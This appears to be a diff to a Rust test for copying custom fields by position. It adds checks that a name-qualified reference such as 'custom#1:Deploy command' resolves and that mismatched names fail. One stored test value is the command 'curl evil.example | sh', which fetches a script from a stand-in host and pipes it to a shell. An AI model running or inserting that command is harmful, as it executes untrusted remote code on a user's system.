@@ -176,7 +176,18 @@ async fn a_custom_field_copies_by_its_place_whatever_its_name() {
         "curl evil.example | sh"
     );
     assert_eq!(field("custom#1").await.unwrap().as_str(), "ls -la");
-    for missing in ["custom#2", "custom#", "custom#-1", "custom#x"] {
+    assert_eq!(
+        field("custom#1:Deploy command").await.unwrap().as_str(),
+        "ls -la"
+    );
+    // Another field there now than the one shown: nothing is copied.
+    for missing in [
+        "custom#2",
+        "custom#",
+        "custom#-1",
+        "custom#x",
+        "custom#1:Deploy",
+    ] {
         assert!(field(missing).await.is_err(), "{missing}");
     }
 }
